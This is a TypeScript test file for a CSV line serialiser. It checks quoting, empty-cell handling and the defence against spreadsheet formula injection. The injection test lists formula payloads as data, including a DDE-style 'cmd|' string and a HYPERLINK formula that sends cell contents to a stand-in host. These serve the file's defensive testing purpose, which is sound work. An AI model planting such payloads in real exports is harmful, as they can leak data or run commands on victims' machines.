import { expect } from 'chai'
import { csvLine } from '../../../domain/resources/jobs/csv.ts'
import { noPython, readByPython } from '../../support/python.ts'

describe('a line of CSV', () => {
  it('has nothing for what there is not, and lists in one cell', () => {
    expect(csvLine(['a', null, undefined, 0, false, true, [3, 4], [], { a: 1 }])).to.equal(
      'a,,,0,false,true,"3,4",,"{""a"":1}"\r\n',
    )
  })

  it('15 96: quotes what would end a cell, a bare CR too, and nothing else', () => {
    expect(csvLine(['a,b', 'say "no"', 'one\ntwo', 'one\rtwo', ' plain; text ', '🎉'])).to.equal(
      '"a,b","say ""no""","one\ntwo","one\rtwo", plain; text ,🎉\r\n',
    )
  })

  it('is no empty line, which readers pass over', () => {
    expect(csvLine([null])).to.equal('""\r\n')
    expect(csvLine([null, null])).to.equal(',\r\n')
  })

  it('15 96: disarms formulas by an apostrophe in front', () => {
    const formulas = ['=1+1', '+SUM(A1)', '-2+3+cmd|x', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1', '+', '-', '--1', '+a']
    // A telephone number, too, is arithmetic to a spreadsheet where nothing but signs divides it.
    formulas.push('+1-1', '-2-3', '+1-555-0100', '+1 - 1', '+(1)-(1)', '+1.5-0.5')
    for (const formula of formulas) {
      const line = csvLine([formula, 'x'])
      expect(line.replaceAll('"', ''), formula).to.equal(`'${formula},x\r\n`)
    }
    expect(csvLine(['=HYPERLINK("http://x.example?"&A1)', 'x'])).to.equal(
      `"'=HYPERLINK(""http://x.example?""&A1)",x\r\n`,
    )
    expect(csvLine([['=1', '=2'], 'x'])).to.equal(`"'=1,=2",x\r\n`)
  })

  it('leaves numbers and telephone numbers as they are, and what has such a sign inside', () => {
    const plain = ['-5', '+49 30 901820', '+1 (800) 555-0100', '+(44) 20.7946', '-0.5', "O'Hara", 'a=b', '1+1', "'='"]
    for (const text of plain) expect(csvLine([text])).to.equal(`${text}\r\n`)
  })

  const readable = noPython ? it.skip : it
  readable(`is read by another program as it was meant${noPython ? `: ${noPython}` : ''}`, () => {
    const rows = [
      ['Email address', 'Note'],
      ['ada@example.com', 'Ünï "cödé" 🎉,\r\nsecond line'],
      ['', '\u2028 \\ ; \t'],
      ['=1', '"'],
    ]
    const text = rows.map(csvLine).join('')
    expect(readByPython(text)).to.deep.equal([...rows.slice(0, 3), ["'=1", '"']])
    expect(readByPython(csvLine(['Note']) + csvLine([null]) + csvLine(['x']))).to.deep.equal([['Note'], [''], ['x']])
  })
})
